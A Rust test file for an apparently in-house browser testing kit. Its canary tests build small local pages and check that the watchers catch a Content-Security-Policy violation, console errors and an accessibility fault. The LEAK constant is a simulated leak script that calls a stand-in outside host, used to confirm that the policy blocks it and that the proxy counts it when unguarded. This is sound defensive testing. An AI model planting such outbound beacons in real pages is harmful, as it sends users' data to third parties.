//! Canaries of the kit: each watcher notices, in both browsers, what it is there to notice. The
//! page is a small one of our own, so that this holds whatever the explorer does.

use std::path::PathBuf;

use crate::kit::site::Manner;
use crate::kit::{Kind, Site, Visit, axe};

const POLICY: &str =
    "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src data:";

/// A folder with a page and its script, with a policy in the page and in headers or without any.
fn small_site(name: &str, guarded: bool, body: &str, script: &str) -> PathBuf {
    let folder = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join(format!("rig-{name}"));
    std::fs::create_dir_all(&folder).unwrap();
    let meta = format!("<meta http-equiv=\"Content-Security-Policy\" content=\"{POLICY}\">");
    let page = format!(
        "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\">{}<meta name=\"viewport\" content=\"width=device-width\">\
         <meta name=\"referrer\" content=\"no-referrer\"><title>Rig</title><link rel=\"icon\" href=\"data:,\"><script src=\"a.js\" defer></script></head>\
         <body><main id=\"app\" data-state=\"ready\" data-settled=\"true\"><h1>Rig</h1>{body}</main></body></html>",
        if guarded { &meta } else { "" }
    );
    let headers = if guarded { format!("/*\n  Content-Security-Policy: {POLICY}\n") } else { String::new() };
    std::fs::write(folder.join("index.html"), page).unwrap();
    std::fs::write(folder.join("a.js"), script).unwrap();
    std::fs::write(folder.join("_headers"), headers).unwrap();
    folder
}

const LEAK: &str =
    "fetch('http://elsewhere.invalid/?q=leak').catch(() => {}).finally(() => globalThis.tried = true);";

fn a_quiet_page_raises_no_alarm(kind: Kind) {
    let folder =
        small_site(&format!("quiet-{kind:?}"), true, "<p>Nothing happens.</p>", "globalThis.tried = true;");
    let visit = Visit::to(kind, &folder, Manner::default());
    visit.enter("");
    visit.wait("globalThis.tried");
    visit.was_quiet();
    assert_eq!(axe::violations(&visit), Vec::<String>::new());
    let asked: Vec<String> = visit.site.hits().into_iter().map(|hit| hit.path).collect();
    assert_eq!(asked, ["index.html", "a.js"]);
}

fn a_leak_is_stopped_by_the_policy_and_reported_twice(kind: Kind) {
    let visit = Visit::to(kind, &small_site(&format!("stopped-{kind:?}"), true, "", LEAK), Manner::default());
    visit.enter("");
    visit.wait("globalThis.tried");
    visit.wait_until("a report at the site", || !visit.site.reports().is_empty());
    assert!(visit.holds("globalThis.seenByProbe.violations.some(v => v.includes('connect-src'))"));
    assert_eq!(visit.foreign.wanted(), Vec::<String>::new());
}

fn without_the_policy_the_leak_is_counted(kind: Kind) {
    let visit = Visit::to(kind, &small_site(&format!("leak-{kind:?}"), false, "", LEAK), Manner::default());
    visit.enter("");
    visit.wait("globalThis.tried");
    visit.wait_until("the leak at the proxy", || {
        visit.foreign.wanted() == ["GET http://elsewhere.invalid/?q=leak"]
    });
}

fn errors_are_heard(kind: Kind) {
    let script =
        "console.error('one'); setTimeout(() => { throw new Error('two') }); Promise.reject('three');";
    let visit =
        Visit::to(kind, &small_site(&format!("errors-{kind:?}"), true, "", script), Manner::default());
    visit.enter("");
    visit.wait("globalThis.seenByProbe.errors.length === 3");
    let heard = visit.complaints().join("\n");
    assert!(["console: one", "two", "rejection: three"].iter().all(|error| heard.contains(error)), "{heard}");
}

fn axe_sees_a_nameless_button(kind: Kind) {
    let visit = Visit::to(
        kind,
        &small_site(&format!("axe-{kind:?}"), true, "<button></button>", ""),
        Manner::default(),
    );
    visit.enter("");
    let found = axe::violations(&visit);
    assert!(found.iter().any(|violation| violation.starts_with("button-name")), "{found:?}");
}

mod both {
    crate::in_both_browsers!(
        a_quiet_page_raises_no_alarm,
        a_leak_is_stopped_by_the_policy_and_reported_twice,
        without_the_policy_the_leak_is_counted,
        errors_are_heard,
        axe_sees_a_nameless_button,
    );
}

#[test]
fn an_absent_site_is_a_failure() {
    let outcome = std::panic::catch_unwind(|| Site::serve(&PathBuf::from("nowhere"), Manner::default()));
    assert!(outcome.is_err());
}
